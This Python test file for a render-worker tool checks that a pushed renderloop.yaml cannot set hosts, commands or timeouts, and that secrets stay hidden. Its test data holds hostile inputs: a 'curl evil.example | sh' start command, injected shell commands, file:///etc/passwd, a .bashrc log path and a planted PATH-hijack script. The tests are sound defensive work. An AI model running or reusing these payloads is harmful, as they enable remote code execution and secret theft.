"""Where and with what comes from the machine (issue 9, item 1).

A pushed renderloop.yaml cannot name a host, a program or a timeout: every
machine key is refused with its line and where it belongs now; this
machine's settings come from flags, the environment and its own
machine.yaml, and `renderloop config` shows them without secrets.
"""
from __future__ import annotations

import os
import socket
import subprocess
import threading
from pathlib import Path

import platformdirs
import pytest

from studio.config import MOVED_TO_MACHINE, load_config
from studio.errors import FatalError, InvalidFile
from studio.layout import Studio
from studio.machine import MACHINE_ENV, env_name, leaves, load_machine, machine_path
from tests.helpers import BATCH_YAML, Sandbox, cli, config_rows, git

SECRET = "fal-secret-9d3c7e51aa"  # found nowhere else: searched for in every file, object and request
BASE = "version: 1\nmodels:\n  tiny:\n    width: 512\n    height: 512\n"


def machine_file() -> Path:
    return Path(os.environ[MACHINE_ENV])


def problems(tmp_path: Path, text: str) -> list[str]:
    tmp_path.mkdir(parents=True, exist_ok=True)
    (tmp_path / "renderloop.yaml").write_text(text, encoding="utf-8")
    with pytest.raises(InvalidFile) as caught:
        load_config(Studio.at(tmp_path))
    return [str(p) for p in caught.value.problems]


class Listener:
    """A TCP server on 127.0.0.1 that counts connections: a host the machine did not configure."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stopping = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stopping.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    self.received.append(conn.recv(65536))
                except OSError:
                    self.received.append(b"")

    def close(self) -> None:
        self.stopping.set()
        self.thread.join(timeout=5)
        self.sock.close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


# -- renderloop.yaml: every machine key refused, with its line and its new place -------------------


@pytest.mark.parametrize("key, yaml_text, line, expected", [
    ("worker.comfyui", "worker:\n  comfyui: [http://evil.example:8188]\n", 7,
     "'worker.comfyui' is a machine setting: put it in {path} (or pass --comfyui)"),
    ("worker.fal_url", "worker:\n  fal_url: http://evil.example\n", 7,
     "'worker.fal_url' is a machine setting: put it in {path} (or pass --fal-url)"),
    ("worker.name", "worker:\n  name: studio-pc\n", 7,
     "'worker.name' is a machine setting: put it in {path} (or pass --name)"),
    ("worker.window", "worker:\n  window: 64\n", 7,
     "'worker.window' is a machine setting: put it in {path} (or pass --window)"),
    ("worker.poll_seconds", "worker:\n  poll_seconds: 2\n", 7,
     "'worker.poll_seconds' is a machine setting: put it in {path} as worker.poll (or pass --poll)"),
    ("worker.backstop_seconds", "worker:\n  backstop_seconds: 60\n", 7,
     "'worker.backstop_seconds' is a machine setting: put it in {path} as worker.backstop"),
    ("worker.wake", "worker:\n  wake: {mac: 'AA:BB:CC:DD:EE:FF'}\n", 7,
     "'worker.wake' is a machine setting: put it in {path} as mac.wake"),
    ("worker.notify", "worker:\n  notify: https://ntfy.sh/x\n", 7,
     "'worker.notify' is a machine setting: put it in {path} (or pass --notify)"),
    ("worker.backend", "worker:\n  backend: fal\n", 7,
     "'worker.backend' is a machine setting: put it in {path} (or pass --backend)"),
    ("worker.comfyui_start", "worker:\n  comfyui_start: sh -c 'curl evil.example | sh'\n", 7,
     "'worker.comfyui_start' is a machine setting: put it in {path} (or pass --comfyui-start)"),
    ("worker.models_dir", "worker:\n  models_dir: /etc\n", 7,
     "'worker.models_dir' is a machine setting: put it in {path} (or pass --models-dir)"),
    ("worker.notify_format", "worker:\n  notify_format: slack\n", 7,
     "'worker.notify_format' is a machine setting: put it in {path} (or pass --notify-format)"),
    ("worker.log_file", "worker:\n  log_file: /home/me/.bashrc\n", 7,
     "'worker.log_file' is a machine setting: put it in {path} (or pass --log-file)"),
    ("worker.push_interval", "worker:\n  push_interval: 0\n", 7,
     "'worker.push_interval' is a machine setting: put it in {path} (or pass --push-interval)"),
    ("worker.backend_wait", "worker:\n  backend_wait: 86400\n", 7,
     "'worker.backend_wait' is a machine setting: put it in {path} (or pass --backend-wait)"),
    ("mac.wake", "mac:\n  wake: {mac: 'AA:BB:CC:DD:EE:FF', broadcast: 10.0.0.255}\n", 7,
     "'mac.wake' is a machine setting: put it in {path}"),
    ("local.cooldown_seconds", "local:\n  cooldown_seconds: 0\n", 7,
     "'local.cooldown_seconds' is a machine setting: put it in {path} as mac.cooldown (or pass --cooldown)"),
    ("local.min_available_gb", "local:\n  min_available_gb: 0\n", 7,
     "'local.min_available_gb' is a machine setting: put it in {path} as mac.min_available_gb "
     "(or pass --min-available-gb)"),
    ("local.memory_wait_seconds", "local:\n  memory_wait_seconds: 1\n", 7,
     "'local.memory_wait_seconds' is a machine setting: put it in {path} as mac.memory_wait"),
    ("local.timeout_seconds", "local:\n  timeout_seconds: 99999\n", 7,
     "'local.timeout_seconds' is a machine setting: put it in {path} as mac.timeout (or pass --timeout)"),
    ("mac", "mac:\n  mflux_bin: /tmp\n", 7, "'mac.mflux_bin' is a machine setting: put it in {path}"),
    ("models.tiny.fal.timeout_seconds", "    fal: {endpoint: fal-ai/flux/dev, timeout_seconds: 99999}\n", 6,
     "'models.tiny.fal.timeout_seconds' is a machine setting: put it in {path} as worker.fal_timeout"),
    ("models.tiny.mflux.command", "    mflux: {command: [sh, -c, 'touch /tmp/owned']}\n", 6,
     "'models.tiny.mflux.command' is a machine setting: name only the program in models.tiny.mflux.program "
     "(and its models.tiny.mflux.model); the folder it runs from goes in {path} as mac.mflux_bin"),
])
def test_a_machine_key_in_renderloop_yaml_is_refused_naming_where_it_belongs(
    tmp_path: Path, key: str, yaml_text: str, line: int, expected: str
) -> None:
    found = problems(tmp_path, BASE + yaml_text)
    assert found == [f"renderloop.yaml:{line}: " + expected.format(path=machine_file())]


def test_every_key_moved_to_the_machine_is_covered_and_exists_there() -> None:
    settings = {".".join(leaf) for leaf in leaves()} | {"mac.wake"}
    assert set(MOVED_TO_MACHINE.values()) <= settings
    assert len(MOVED_TO_MACHINE) == 13


def test_several_machine_keys_are_each_named_with_their_line(tmp_path: Path) -> None:
    text = BASE + "    mflux: {command: [sh]}\nworker:\n  comfyui: [http://a]\n  fal_url: http://b\nlocal:\n  timeout_seconds: 1\n"
    found = problems(tmp_path, text)
    assert [p.split(": ", 2)[:2] for p in found] == [
        ["renderloop.yaml:6", "'models.tiny.mflux.command' is a machine setting"],
        ["renderloop.yaml:8", "'worker.comfyui' is a machine setting"],
        ["renderloop.yaml:9", "'worker.fal_url' is a machine setting"],
        ["renderloop.yaml:11", "'local.timeout_seconds' is a machine setting"],
    ]


def test_the_project_and_a_new_studio_carry_no_machine_key(tmp_path: Path) -> None:
    from mac_side.init import init

    root = Path(__file__).resolve().parents[2]
    assert load_config(Studio.at(root)).models
    init(tmp_path / "s")
    text = (tmp_path / "s" / "renderloop.yaml").read_text(encoding="utf-8")
    assert "worker:" not in text and "local:" not in text and "command:" not in text
    assert load_config(Studio.at(tmp_path / "s")).models["flux-schnell"].mflux.argv == [
        "mflux-generate", "--model", "schnell"]


# -- this machine: flag > environment > machine.yaml > default ---------------------------------------


def test_flag_beats_environment_beats_file_beats_default() -> None:
    machine_file().write_text(
        "worker:\n  comfyui: [http://file:8188]\n  window: 3\n  poll: 7\nmac:\n  cooldown: 4\n", encoding="utf-8")
    env = {MACHINE_ENV: str(machine_file()), "RENDERLOOP_WORKER_COMFYUI": "http://env-a:8188, http://env-b:8188",
           "RENDERLOOP_WORKER_WINDOW": "5"}
    machine = load_machine({"worker.window": 9, "worker.comfyui": [], "worker.name": None}, environ=env)
    assert machine.worker.comfyui == ["http://env-a:8188", "http://env-b:8188"]
    assert (machine.worker.window, machine.worker.poll, machine.mac.cooldown, machine.worker.backstop) == (9, 7.0, 4.0, 60.0)
    assert {k: machine.source(k) for k in ("worker.comfyui", "worker.window", "worker.poll", "mac.cooldown",
                                          "worker.backstop")} == {
        "worker.comfyui": "env", "worker.window": "flag", "worker.poll": "file", "mac.cooldown": "file",
        "worker.backstop": "default"}


def test_the_file_is_in_the_user_config_folder_unless_the_environment_names_another(tmp_path: Path) -> None:
    assert machine_path({}) == Path(platformdirs.user_config_dir("renderloop", appauthor=False)) / "machine.yaml"
    assert machine_path({MACHINE_ENV: str(tmp_path / "m.yaml")}) == tmp_path / "m.yaml"
    result = cli("config", "--path", cwd=tmp_path)
    assert (result.returncode, result.stdout) == (0, f"{machine_file()}\n")


@pytest.mark.parametrize("text, expected", [
    ("worker:\n  window: 0\n", "2: worker.window: Input should be greater than or equal to 1 (got 0)"),
    ("worker:\n  window: '2'\n", "2: worker.window: Input should be a valid integer (got '2')"),
    ("worker:\n  comfyui: [ftp://x]\n", "2: worker.comfyui: ComfyUI server 'ftp://x' is not an http(s) URL like http://127.0.0.1:8188"),
    ("worker:\n  fal_key: abc\n", "1: worker: the fal key is read from the environment only (FAL_KEY): remove it from this file"),
    ("worker:\n  name: \"a\\nRenderloop-Status: done\"\n", "2: worker.name: worker name 'a\\nRenderloop-Status: done' is not allowed"),
    ("colour: red\n", "1: unknown key 'colour'"),
    ("- a\n", "1: machine.yaml must be a mapping with the sections worker: and mac:"),
])
def test_a_bad_machine_file_is_one_line_naming_file_and_line(text: str, expected: str) -> None:
    machine_file().write_text(text, encoding="utf-8")
    with pytest.raises(InvalidFile) as caught:
        load_machine()
    assert str(caught.value).startswith(f"{machine_file()}:{expected}")


def test_a_bad_environment_variable_or_flag_is_named() -> None:
    with pytest.raises(FatalError, match=r"^environment variable RENDERLOOP_WORKER_WINDOW='many': Input should be a valid integer"):
        load_machine(environ={MACHINE_ENV: str(machine_file()), "RENDERLOOP_WORKER_WINDOW": "many"})
    with pytest.raises(FatalError, match=r"^--window: Input should be greater than or equal to 1 \(got 0\)$"):
        load_machine({"worker.window": 0}, environ={MACHINE_ENV: str(machine_file())})
    with pytest.raises(FatalError, match=r"^--comfyui: ComfyUI server 'file:///etc/passwd' is not an http\(s\) URL"):
        load_machine({"worker.comfyui": ["file:///etc/passwd"]}, environ={MACHINE_ENV: str(machine_file())})


def test_an_empty_or_comment_only_machine_file_means_the_defaults() -> None:
    for text in ("", "# nothing yet\n"):
        machine_file().write_text(text, encoding="utf-8")
        assert load_machine().settings.worker.comfyui == ["http://127.0.0.1:8188"]


def test_one_comfyui_server_may_be_written_as_one_url_as_in_the_environment() -> None:
    machine_file().write_text("worker:\n  comfyui: http://gpu-box:8188\n", encoding="utf-8")
    assert load_machine().settings.worker.comfyui == ["http://gpu-box:8188"]


def test_every_setting_has_an_environment_variable() -> None:
    names = [env_name(leaf) for leaf in leaves()]
    assert len(names) == len(set(names)) and all(n.startswith("RENDERLOOP_") for n in names)
    assert "RENDERLOOP_WORKER_COMFYUI" in names and "RENDERLOOP_MAC_WAKE_MAC" in names


def test_config_prints_every_setting_with_its_source_and_no_secret(tmp_path: Path) -> None:
    machine_file().write_text(
        "worker:\n  comfyui: [\"http://user:pw-7731@gpu:8188/?token=tk-5521\"]\n  notify: https://ntfy.sh/topic-9931\n"
        "mac:\n  cooldown: 3\n", encoding="utf-8")
    env = {**os.environ, "FAL_KEY": SECRET, "RENDERLOOP_WORKER_WINDOW": "4"}
    result = cli("config", cwd=tmp_path, env=env)
    assert result.returncode == 0, result.stderr
    lines = config_rows(result.stdout)
    assert lines["worker.window"] == ["4", "env"]
    assert lines["mac.cooldown"] == ["3.0", "file"]
    assert lines["worker.backstop"] == ["60.0", "default"]
    assert " ".join(lines["worker.poll"]) == (
        "(not set: 12 s to a remote over the network; a remote on this disk is watched) default")
    assert lines["worker.models_dir"] == ["(not", "set)", "default"]
    assert lines["worker.comfyui"] == ["http://***@gpu:8188/?…", "file"]
    assert lines["FAL_KEY"] == ["set", "(hidden)", "env"]
    for secret in (SECRET, "pw-7731", "tk-5521", "topic-9931"):
        assert secret not in result.stdout + result.stderr


def test_a_bad_machine_file_stops_the_worker_before_anything(sandbox: Sandbox) -> None:
    machine_file().write_text("worker:\n  window: 0\n", encoding="utf-8")
    result = cli("worker", "-C", str(sandbox.worker), "--backend", "placeholder", "--once")
    assert result.returncode == 1
    assert result.stderr == (f"{machine_file()}:2: worker.window: "
                             "Input should be greater than or equal to 1 (got 0)\n")
    assert git(sandbox.worker, "log", "--format=%s").stdout.count("\n") == 1  # nothing committed


# -- a pushed renderloop.yaml cannot send the key, the prompts or a command anywhere -------------


def push_config(sandbox: Sandbox, extra: str) -> None:
    path = sandbox.mac / "renderloop.yaml"
    path.write_text(path.read_text(encoding="utf-8") + extra, encoding="utf-8")
    sandbox.write("batches/hero.yaml", BATCH_YAML)
    git(sandbox.mac, "add", "-A")
    git(sandbox.mac, "commit", "-q", "--no-verify", "-m", "hostile settings")
    git(sandbox.mac, "push", "-q")


def every_byte(root: Path) -> bytes:
    """Every file of a clone, .git included (objects are zlib-compressed: also unpack them)."""
    out = b"".join(p.read_bytes() for p in root.rglob("*") if p.is_file() and not p.is_symlink())
    objects = subprocess.run(["git", "cat-file", "--batch-all-objects", "--batch"], cwd=root,
                             capture_output=True, check=True).stdout
    return out + objects


def test_a_pushed_fal_url_gets_no_request_and_no_key(sandbox: Sandbox, listener: Listener,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FAL_KEY", SECRET)
    push_config(sandbox, f"worker:\n  fal_url: http://127.0.0.1:{listener.port}\n")
    result = cli("worker", "-C", str(sandbox.worker), "--backend", "fal", "--once", "--no-push")
    line = len((sandbox.mac / "renderloop.yaml").read_text(encoding="utf-8").splitlines())
    assert f"renderloop.yaml:{line}: 'worker.fal_url' is a machine setting: put it in {machine_file()} " \
           "(or pass --fal-url)" in result.stderr
    assert listener.received == []
    for where in (sandbox.worker, sandbox.remote, sandbox.mac):
        assert SECRET.encode() not in every_byte(where)
    assert SECRET not in result.stdout + result.stderr


def test_a_pushed_comfyui_server_gets_no_request(sandbox: Sandbox, listener: Listener) -> None:
    push_config(sandbox, f"worker:\n  comfyui: [http://127.0.0.1:{listener.port}]\n")
    result = cli("worker", "-C", str(sandbox.worker), "--backend", "comfyui", "--once", "--no-push",
                 "--comfyui", "http://127.0.0.1:9")  # the machine's own (closed) server
    assert "'worker.comfyui' is a machine setting" in result.stderr
    assert listener.received == []


def test_a_pushed_mflux_command_never_runs(sandbox: Sandbox, tmp_path: Path) -> None:
    marker = tmp_path / "owned"
    push_config(sandbox, "")  # the batch file
    path = sandbox.mac / "renderloop.yaml"
    text = path.read_text(encoding="utf-8").replace(
        "mflux: {program: mflux-generate-z-image-turbo}", f"mflux: {{command: [sh, -c, 'touch {marker}']}}")
    path.write_text(text, encoding="utf-8")
    git(sandbox.mac, "commit", "-q", "--no-verify", "-am", "run my command")
    git(sandbox.mac, "push", "-q")
    git(sandbox.worker, "pull", "-q")
    for command in (["worker", "-C", str(sandbox.worker), "--backend", "mflux", "--once", "--no-push"],
                    ["local", "hero", "-C", str(sandbox.worker), "--cooldown", "0"]):
        result = cli(*command)
        assert "'models.z-image-turbo.mflux.command' is a machine setting" in result.stderr, result.stderr
        assert not marker.exists()


@pytest.mark.skipif(os.name == "nt", reason="POSIX PATH here")
@pytest.mark.parametrize("entry", ["", "."])
def test_an_mflux_program_in_the_current_folder_is_never_found(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                               entry: str) -> None:
    """A PATH with an empty or '.' entry would find a committed `mflux-generate` in the studio, run from there."""
    from win_side.backends.mflux.backend import find_program

    planted = tmp_path / "mflux-generate"
    planted.write_text("#!/bin/sh\ntouch pwned\n", encoding="utf-8")
    planted.chmod(0o755)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PATH", os.pathsep.join([entry, "/usr/bin", "/bin"]))
    assert find_program("mflux-generate") is None
    assert find_program("mflux-generate", entry) is None  # mac.mflux_bin: "." or "" is no folder either
